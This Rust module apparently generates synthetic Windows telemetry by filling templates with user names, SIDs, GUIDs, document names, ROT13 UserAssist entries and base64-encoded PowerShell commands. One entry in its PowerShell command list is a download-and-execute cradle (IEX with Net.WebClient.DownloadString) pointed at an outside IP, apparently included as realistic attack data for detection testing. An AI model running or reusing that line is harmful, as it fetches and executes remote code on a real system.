//! Filling catalog templates (`{u}`, `{hex8}`, `{doc}` …) and the small text encodings the wire
//! formats need (hex, base64, ROT13).

pub(crate) use crate::decode::guid::base64_into;

use super::rng::Rng;

/// Who a template is filled for.
pub(crate) struct Ctx<'a> {
    /// Profile folder name, lower case (`jsmith`).
    pub user: &'a str,
    /// Profile folder name as created (`JSmith`).
    pub user_orig: &'a str,
    /// The user's SID, lower case as in registry paths.
    pub sid: &'a str,
    /// File name of the acting program.
    pub exe: &'a str,
}

const DOCS: &[&str] = &[
    "Q3 budget review",
    "invoice_88213",
    "meeting notes",
    "Project Falcon plan",
    "expense report march",
    "org chart 2024",
    "contract_draft_v4",
    "onboarding checklist",
    "sales forecast",
    "vpn setup guide",
    "Payroll_Feb",
    "customer list",
    "architecture overview",
    "release notes 5.2",
    "travel itinerary",
    "benefits summary",
];

const SCRIPTS: &[&str] = &[
    "backup.ps1",
    "Get-Inventory.ps1",
    "deploy_agent.ps1",
    "cleanup_temp.ps1",
    "map-drives.ps1",
];

const BATS: &[&str] = &[
    r"C:\Windows\TEMP\logon.bat",
    r"\\corp.example.com\NETLOGON\map_drives.bat",
    r"C:\ProgramData\scripts\inventory.cmd",
];

const USERASSIST: &[&str] = &[
    "microsoft.windows.explorer",
    "chrome",
    "microsoft.office.winword.exe.15",
    "microsoft.office.outlook.exe.15",
    "microsoft.office.excel.exe.15",
    "{1ac14e77-02e7-4e5d-b744-2eb1ae5198b7}\\cmd.exe",
    "{1ac14e77-02e7-4e5d-b744-2eb1ae5198b7}\\notepad.exe",
    "{1ac14e77-02e7-4e5d-b744-2eb1ae5198b7}\\windowspowershell\\v1.0\\powershell.exe",
    "microsoft.windows.remotedesktop",
];

const PS_COMMANDS: &[&str] = &[
    "Get-Service | Where-Object {$_.Status -eq 'Running'}",
    "IEX (New-Object Net.WebClient).DownloadString('http://185.220.101.47/a')",
    "Get-ChildItem -Recurse C:\\Users\\Public",
    "Invoke-WebRequest -Uri https://raw.githubusercontent.com/corp/tools/main/inv.ps1 -OutFile $env:TEMP\\inv.ps1",
];

/// Append `tpl` with its tokens filled to `out`.
pub(crate) fn fill(tpl: &str, ctx: &Ctx<'_>, rng: &mut Rng, out: &mut String) {
    let mut rest = tpl;
    while let Some(open) = rest.find('{') {
        out.push_str(&rest[..open]);
        let after = &rest[open + 1..];
        let Some(close) = after.find('}') else {
            out.push_str(&rest[open..]);
            return;
        };
        let token = &after[..close];
        if !token_value(token, ctx, rng, out) {
            // Not one of ours (a literal GUID in a path): keep it as written.
            out.push('{');
            out.push_str(token);
            out.push('}');
        }
        rest = &after[close + 1..];
    }
    out.push_str(rest);
}

/// `fill` into a new string.
pub(crate) fn filled(tpl: &str, ctx: &Ctx<'_>, rng: &mut Rng) -> String {
    let mut s = String::with_capacity(tpl.len() + 16);
    fill(tpl, ctx, rng, &mut s);
    s
}

fn token_value(token: &str, ctx: &Ctx<'_>, rng: &mut Rng, out: &mut String) -> bool {
    match token {
        "u" => out.push_str(ctx.user),
        "U" => out.push_str(ctx.user_orig),
        "sid" => out.push_str(ctx.sid),
        "exe" => out.push_str(ctx.exe),
        "hex4" => push_hex_u64(out, rng.next_u64(), 4),
        "hex8" => push_hex_u64(out, rng.next_u64(), 8),
        "hex16" => push_hex_u64(out, rng.next_u64(), 16),
        "hex32" => {
            push_hex_u64(out, rng.next_u64(), 16);
            push_hex_u64(out, rng.next_u64(), 16);
        }
        "num" => {
            use std::fmt::Write;
            let _ = write!(out, "{}", rng.range(1, 9_999));
        }
        "guid" => push_guid(out, rng, true),
        "doc" => out.push_str(pick(DOCS, rng)),
        "docx" | "xlsx" | "pdf" | "zip" | "txt" => {
            out.push_str(pick(DOCS, rng));
            out.push('.');
            out.push_str(token);
        }
        "script" => out.push_str(pick(SCRIPTS, rng)),
        "bat" => out.push_str(pick(BATS, rng)),
        "rot13" => rot13_into(pick(USERASSIST, rng), out),
        "b64" => {
            let cmd = pick(PS_COMMANDS, rng);
            let utf16: Vec<u8> = cmd.encode_utf16().flat_map(|c| c.to_le_bytes()).collect();
            base64_into(&utf16, out);
        }
        _ => return false,
    }
    true
}

fn pick<'a>(xs: &[&'a str], rng: &mut Rng) -> &'a str {
    rng.pick(xs).copied().unwrap_or("")
}

/// A braced upper-case GUID (`{BF2C00FC-C36B-45B2-BD1E-496307B319F4}`) or bare lower-case.
pub(crate) fn push_guid(out: &mut String, rng: &mut Rng, braced_upper: bool) {
    let a = rng.next_u64();
    let b = rng.next_u64();
    let s = format!(
        "{:08x}-{:04x}-4{:03x}-{:04x}-{:012x}",
        a >> 32,
        (a >> 16) & 0xffff,
        a & 0xfff,
        0x8000 | (b >> 48) & 0x3fff,
        b & 0xffff_ffff_ffff
    );
    if braced_upper {
        out.push('{');
        out.push_str(&s.to_ascii_uppercase());
        out.push('}');
    } else {
        out.push_str(&s);
    }
}

const HEX_LOWER: &[u8; 16] = b"0123456789abcdef";
const HEX_UPPER: &[u8; 16] = b"0123456789ABCDEF";

/// The low `digits` hex digits of `v`, lower case.
pub(crate) fn push_hex_u64(out: &mut String, v: u64, digits: u32) {
    for i in (0..digits).rev() {
        out.push(HEX_LOWER[((v >> (i * 4)) & 0xf) as usize] as char);
    }
}

pub(crate) fn hex(bytes: &[u8], upper: bool) -> String {
    let table = if upper { HEX_UPPER } else { HEX_LOWER };
    let mut s = String::with_capacity(bytes.len() * 2);
    for b in bytes {
        s.push(table[(b >> 4) as usize] as char);
        s.push(table[(b & 0xf) as usize] as char);
    }
    s
}

fn rot13_into(s: &str, out: &mut String) {
    out.extend(s.chars().map(|c| match c {
        'a'..='m' | 'A'..='M' => (c as u8 + 13) as char,
        'n'..='z' | 'N'..='Z' => (c as u8 - 13) as char,
        _ => c,
    }));
}

/// A sensor-side truncation of very long command lines, as the captures show.
pub(crate) fn truncate_cmdline(s: &mut String) {
    const MAX: usize = 1024;
    if s.len() > MAX {
        let mut cut = MAX;
        while !s.is_char_boundary(cut) {
            cut -= 1;
        }
        s.truncate(cut);
        s.push_str(" (truncated)");
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fills_tokens_and_keeps_literal_braces() {
        let ctx = Ctx {
            user: "jsmith",
            user_orig: "JSmith",
            sid: "s-1-5-21-1-2-3-1104",
            exe: "chrome.exe",
        };
        let mut rng = Rng::new(3);
        let s = filled(
            r"c:\users\{u}\{hex8}.tmp {U} {exe} {cebff5cd-ace2-4f4f-9178-9926f41749ea} {sid}",
            &ctx,
            &mut rng,
        );
        assert!(s.starts_with(r"c:\users\jsmith\"), "{s}");
        assert!(s.contains(" JSmith chrome.exe {cebff5cd-ace2-4f4f-9178-9926f41749ea} s-1-5-21"));
        let hex8 = &s[r"c:\users\jsmith\".len()..][..8];
        assert!(hex8.bytes().all(|b| b.is_ascii_hexdigit()), "{hex8}");
    }

    #[test]
    fn encodings() {
        let mut s = String::new();
        base64_into(b"Man", &mut s);
        base64_into(b"Ma", &mut s);
        base64_into(b"M", &mut s);
        assert_eq!(s, "TWFuTWE=TQ==");
        let mut r = String::new();
        rot13_into("microsoft.windows.explorer", &mut r);
        assert_eq!(r, "zvpebfbsg.jvaqbjf.rkcybere");
        assert_eq!(hex(&[0xab, 0x01], true), "AB01");
        let mut long = "x".repeat(2000);
        truncate_cmdline(&mut long);
        assert!(long.ends_with(" (truncated)") && long.len() == 1024 + 12);
    }
}
